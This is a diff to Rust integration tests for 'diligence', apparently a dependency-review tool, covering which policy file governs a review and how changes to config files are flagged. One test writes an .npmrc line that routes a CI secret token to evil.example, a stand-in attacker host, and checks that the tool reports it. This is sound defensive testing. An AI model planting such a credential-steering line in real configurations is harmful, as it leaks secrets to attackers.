@@ -441,7 +441,8 @@ fn bump_with_exfiltrating_postinstall_and_integrity_edit() {
         .iter()
         .find(|f| f["rule"] == "code/credential-theft")
         .unwrap();
-    assert_eq!(theft["location"], json!({"file": "setup.js", "line": 6}));
+    // A value-flow finding sits at its sink: the line that sends the `.npmrc` (read on line 6).
+    assert_eq!(theft["location"], json!({"file": "setup.js", "line": 8}));
     assert!(matches!(
         theft["severity"].as_str(),
         Some("medium" | "high" | "critical")
@@ -583,8 +584,16 @@ fn policy_errors_exit_2_with_file_and_line() {
             "diligence.toml:3:8: unknown rule id `no/such`",
         ),
     ] {
-        std::fs::write(fx.repo.join("diligence.toml"), text).unwrap();
-        let (code, _, stderr) = fx.diligence(&["diff", "--no-advisories", "--no-registry"]);
+        // The head's diligence.toml never governs `diff`: the policy under test is --config.
+        let policy = fx.home.join("diligence.toml");
+        std::fs::write(&policy, text).unwrap();
+        let (code, _, stderr) = fx.diligence(&[
+            "diff",
+            "--no-advisories",
+            "--no-registry",
+            "--config",
+            policy.to_str().unwrap(),
+        ]);
         assert_eq!(code, 2, "{stderr}");
         assert!(
             stderr.starts_with("error: ") && stderr.contains(expected),
@@ -609,8 +618,9 @@ fn policy_errors_exit_2_with_file_and_line() {
     assert_eq!(stderr.matches("os error").count(), 1, "{stderr}");
     // An ignore pinned to a package that no longer matches is reported stale; a valid file
     // runs.
+    let policy = fx.home.join("diligence.toml");
     std::fs::write(
-        fx.repo.join("diligence.toml"),
+        &policy,
         "[[ignore]]\npackage = \"colorize-text@0.9.0\"\nrule = \"diff/version-changed\"\nreason = \"old review\"\n",
     )
     .unwrap();
@@ -618,6 +628,8 @@ fn policy_errors_exit_2_with_file_and_line() {
         "diff",
         "--no-advisories",
         "--no-registry",
+        "--config",
+        policy.to_str().unwrap(),
         "--format",
         "json",
     ]);
@@ -691,5 +703,332 @@ fn metadata_rules_run_on_the_new_version() {
     assert_eq!(
         license["location"],
         json!({"file": "package-lock.json", "line": 14})
+    );
+}
+
+/// The base of the removal scenario with `policy` committed as diligence.toml, and a head
+/// that drops old-dep, writes `head_policy` and appends `head_npmrc` to `.npmrc` when given,
+/// committed or left in the working tree.
+fn trust_fixture(
+    policy: &str,
+    head_policy: Option<&str>,
+    head_npmrc: Option<&str>,
+    commit_head: bool,
+) -> Fixture {
+    let w = world();
+    let registry = serve(&[&w.colorize_old, &w.str_helper, &w.old_dep]);
+    let fx = Fixture::new(&registry);
+    std::fs::write(fx.repo.join("diligence.toml"), policy).unwrap();
+    git(&fx.repo, &["add", "diligence.toml"]);
+    commit(
+        &fx.repo,
+        &[
+            (&w.colorize_old, sri(&w.colorize_old.tgz)),
+            (&w.str_helper, sri(&w.str_helper.tgz)),
+            (&w.old_dep, sri(&w.old_dep.tgz)),
+        ],
+        "base",
+    );
+    if let Some(text) = head_policy {
+        std::fs::write(fx.repo.join("diligence.toml"), text).unwrap();
+        git(&fx.repo, &["add", "diligence.toml"]);
+    }
+    if let Some(extra) = head_npmrc {
+        let path = fx.repo.join(".npmrc");
+        let text = std::fs::read_to_string(&path).unwrap();
+        std::fs::write(&path, format!("{text}{extra}")).unwrap();
+    }
+    let head = [
+        (&w.colorize_old, sri(&w.colorize_old.tgz)),
+        (&w.str_helper, sri(&w.str_helper.tgz)),
+    ];
+    if commit_head {
+        commit(&fx.repo, &head, "drop old-dep");
+    } else {
+        // Commit the base twice so HEAD~1 is the base; the head is the working tree.
+        git(&fx.repo, &["commit", "-q", "--allow-empty", "-m", "empty"]);
+        std::fs::write(fx.repo.join("package-lock.json"), lockfile(&head)).unwrap();
+        std::fs::write(fx.repo.join("package.json"), manifest(&head)).unwrap();
+    }
+    fx
+}
+
+const RAISE_REMOVED: &str = "[rules.\"diff/package-removed\"]\nseverity = \"high\"\n";
+
+#[test]
+fn the_base_policy_governs_diff_not_the_head() {
+    // The base raises diff/package-removed to high; the head (committed, then as the working
+    // tree) tries to switch that rule and the review of its own policy change off.
+    let head_policy = "fail-on = \"critical\"\n[rules.\"diff/package-removed\"]\ndisabled = true\n[rules.\"diff/config-changed\"]\ndisabled = true\n";
+    for commit_head in [true, false] {
+        let fx = trust_fixture(RAISE_REMOVED, Some(head_policy), None, commit_head);
+        let (code, stdout, stderr) = fx.diligence(&[
+            "diff",
+            "--no-advisories",
+            "--no-registry",
+            "--format",
+            "json",
+        ]);
+        assert_eq!(code, 1, "stderr: {stderr}\nstdout: {stdout}");
+        let report: Value = serde_json::from_str(&stdout).unwrap();
+        let row = |r: &str, p: &str, s: &str| (r.to_string(), p.to_string(), s.to_string());
+        assert_eq!(
+            summary(&report),
+            [
+                row("diff/config-changed", "@", "high"),
+                row("diff/package-removed", "old-dep@1.0.0", "high"),
+            ]
+        );
+        let f = report["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|f| f["rule"] == "diff/config-changed")
+            .unwrap();
+        assert_eq!(f["location"], json!({"file": "diligence.toml", "line": 1}));
+        assert_eq!(
+            f["evidence"]["keys"],
+            json!([
+                "fail-on",
+                "disabled",
+                "[rules.\"diff/config-changed\"]",
+                "severity"
+            ])
+        );
+    }
+}
+
+#[test]
+fn an_unchanged_base_policy_applies_and_config_wins() {
+    let fx = trust_fixture(RAISE_REMOVED, None, None, true);
+    let (code, stdout, stderr) = fx.diligence(&[
+        "diff",
+        "--no-advisories",
+        "--no-registry",
+        "--format",
+        "json",
+    ]);
+    assert_eq!(code, 1, "stderr: {stderr}\nstdout: {stdout}");
+    let report: Value = serde_json::from_str(&stdout).unwrap();
+    assert_eq!(
+        summary(&report),
+        [(
+            "diff/package-removed".to_string(),
+            "old-dep@1.0.0".to_string(),
+            "high".to_string()
+        )]
+    );
+    // An explicit --config replaces the base policy (the default severity, info, is back).
+    let other = fx.home.join("other.toml");
+    std::fs::write(&other, "fail-on = \"high\"\n").unwrap();
+    let (code, stdout, stderr) = fx.diligence(&[
+        "diff",
+        "--no-advisories",
+        "--no-registry",
+        "--config",
+        other.to_str().unwrap(),
+        "--format",
+        "json",
+    ]);
+    assert_eq!(code, 0, "stderr: {stderr}\nstdout: {stdout}");
+    let report: Value = serde_json::from_str(&stdout).unwrap();
+    assert_eq!(report["findings"][0]["severity"], "info");
+}
+
+#[test]
+fn a_head_npmrc_that_steers_credentials_is_a_finding() {
+    let fx = trust_fixture(
+        "",
+        None,
+        Some("//evil.example/:_authToken=${CI_SECRET}\n"),
+        false,
+    );
+    let out = assert_cmd::Command::cargo_bin("diligence")
+        .unwrap()
+        .current_dir(&fx.repo)
+        .env("HOME", &fx.home)
+        .env("npm_config_userconfig", fx.home.join(".npmrc"))
+        .env("DILIGENCE_CACHE_DIR", &fx.cache)
+        .env("CI_SECRET", "s3cr3t-value-never-printed")
+        .env("NO_COLOR", "1")
+        .args([
+            "diff",
+            "--no-advisories",
+            "--no-registry",
+            "--format",
+            "json",
+        ])
+        .output()
+        .unwrap();
+    let (stdout, stderr) = (
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr),
+    );
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "stderr: {stderr}\nstdout: {stdout}"
+    );
+    assert!(!stdout.contains("s3cr3t") && !stderr.contains("s3cr3t"));
+    let report: Value = serde_json::from_str(&stdout).unwrap();
+    let f = &report["findings"][0];
+    assert_eq!(f["rule"], "diff/config-changed");
+    assert_eq!(f["severity"], "high");
+    assert_eq!(
+        f["message"],
+        "the head changes .npmrc (//evil.example/:_authToken): a pull request must not configure its own review; the base revision's policy applies"
+    );
+    assert_eq!(f["location"], json!({"file": ".npmrc", "line": 2}));
+}
+
+#[test]
+fn the_base_npmrc_names_the_registry_not_the_head() {
+    // The head points .npmrc at a registry of its own (here a closed port): the review still
+    // cross-checks against the base's registry, and the change itself is a finding.
+    let (fx, _) = bump_fixture();
+    let (_, base_stdout, _) = fx.diligence(&["diff", "--no-advisories", "--format", "json"]);
+    let base_report: Value = serde_json::from_str(&base_stdout).unwrap();
+    let closed = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    std::fs::write(
+        fx.repo.join(".npmrc"),
+        format!("registry=http://127.0.0.1:{closed}/\n"),
+    )
+    .unwrap();
+    let (code, stdout, stderr) = fx.diligence(&["diff", "--no-advisories", "--format", "json"]);
+    assert_eq!(code, 1, "stderr: {stderr}\nstdout: {stdout}");
+    let report: Value = serde_json::from_str(&stdout).unwrap();
+    assert_eq!(report["not_evaluated"], json!([]), "{stdout}");
+    let mut expected = summary(&base_report);
+    expected.push((
+        "diff/config-changed".to_string(),
+        "@".to_string(),
+        "high".to_string(),
+    ));
+    expected.sort();
+    assert_eq!(summary(&report), expected);
+}
+
+#[test]
+fn lockfiles_in_two_folders_take_the_base_folders_policy() {
+    let w = world();
+    let tmp = tempfile::tempdir().unwrap();
+    let (base, head) = (tmp.path().join("base"), tmp.path().join("head"));
+    let all = [
+        (&w.colorize_old, sri(&w.colorize_old.tgz)),
+        (&w.str_helper, sri(&w.str_helper.tgz)),
+        (&w.old_dep, sri(&w.old_dep.tgz)),
+    ];
+    for (dir, entries, policy) in [
+        (&base, &all[..], RAISE_REMOVED),
+        (
+            &head,
+            &all[..2],
+            "[rules.\"diff/package-removed\"]\ndisabled = true\n",
+        ),
+    ] {
+        std::fs::create_dir_all(dir).unwrap();
+        std::fs::write(dir.join("package-lock.json"), lockfile(entries)).unwrap();
+        std::fs::write(dir.join("package.json"), manifest(entries)).unwrap();
+        std::fs::write(dir.join("diligence.toml"), policy).unwrap();
+    }
+    let out = assert_cmd::Command::cargo_bin("diligence")
+        .unwrap()
+        .env("HOME", tmp.path())
+        .env("npm_config_userconfig", tmp.path().join(".npmrc"))
+        .env("NO_COLOR", "1")
+        .arg("diff")
+        .arg("--base-lockfile")
+        .arg(base.join("package-lock.json"))
+        .arg("--head-lockfile")
+        .arg(head.join("package-lock.json"))
+        .args(["--no-advisories", "--no-registry", "--format", "json"])
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(1), "{stdout}");
+    let report: Value = serde_json::from_str(&stdout).unwrap();
+    let row = |r: &str, p: &str, s: &str| (r.to_string(), p.to_string(), s.to_string());
+    assert_eq!(
+        summary(&report),
+        [
+            row("diff/config-changed", "@", "high"),
+            row("diff/package-removed", "old-dep@1.0.0", "high"),
+        ]
+    );
+    let f = &report["findings"].as_array().unwrap()[0];
+    assert_eq!(
+        f["location"]["file"],
+        head.join("diligence.toml").display().to_string()
+    );
+    assert_eq!(f["evidence"]["keys"], json!(["disabled", "severity"]));
+}
+
+#[test]
+fn trust_files_are_read_size_bounded() {
+    // A head .npmrc over 1 MiB is not read: it is a change whose settings are not listed.
+    let big = format!("# {}\n", "x".repeat(2 * 1024 * 1024));
+    let fx = trust_fixture("", None, Some(&big), false);
+    let (code, stdout, stderr) = fx.diligence(&[
+        "diff",
+        "--no-advisories",
+        "--no-registry",
+        "--format",
+        "json",
+    ]);
+    // The oversized project .npmrc is the working tree's, not the base's: the review runs.
+    assert_eq!(code, 1, "stderr: {stderr}\nstdout: {stdout}");
+    let report: Value = serde_json::from_str(&stdout).unwrap();
+    assert_eq!(report["findings"][0]["rule"], "diff/config-changed");
+    assert_eq!(report["findings"][0]["evidence"]["keys"], json!([]));
+    // A base policy over 1 MiB is refused from its size (git cat-file -s), exit 2.
+    let fx = trust_fixture(&big, None, None, true);
+    let (code, _, stderr) = fx.diligence(&["diff", "--no-advisories", "--no-registry"]);
+    assert_eq!(code, 2, "{stderr}");
+    assert!(
+        stderr.contains(":diligence.toml: is 2097155 bytes, over the 1048576 byte limit"),
+        "{stderr}"
+    );
+    assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
+}
+
+#[test]
+fn untracked_local_config_applies_and_is_no_finding() {
+    // A diligence.toml and .npmrc git does not track (a developer's own, or one CI wrote
+    // before the run) are local configuration, not content of the change: they apply to a
+    // working-tree diff and are not reported.
+    let w = world();
+    let registry = serve(&[&w.colorize_old, &w.str_helper, &w.old_dep]);
+    let fx = Fixture::new(&registry);
+    let all = [
+        (&w.colorize_old, sri(&w.colorize_old.tgz)),
+        (&w.str_helper, sri(&w.str_helper.tgz)),
+        (&w.old_dep, sri(&w.old_dep.tgz)),
+    ];
+    commit(&fx.repo, &all, "base");
+    commit(&fx.repo, &all[..2], "drop old-dep");
+    git(&fx.repo, &["rm", "-q", "--cached", ".npmrc"]);
+    git(&fx.repo, &["commit", "-q", "-m", "untrack .npmrc"]);
+    std::fs::write(fx.repo.join("diligence.toml"), RAISE_REMOVED).unwrap();
+    let (code, stdout, stderr) = fx.diligence(&[
+        "diff",
+        "--no-advisories",
+        "--no-registry",
+        "--format",
+        "json",
+        "HEAD~2",
+    ]);
+    assert_eq!(code, 1, "stderr: {stderr}\nstdout: {stdout}");
+    let report: Value = serde_json::from_str(&stdout).unwrap();
+    assert_eq!(
+        summary(&report),
+        [(
+            "diff/package-removed".to_string(),
+            "old-dep@1.0.0".to_string(),
+            "high".to_string()
+        )]
     );
 }
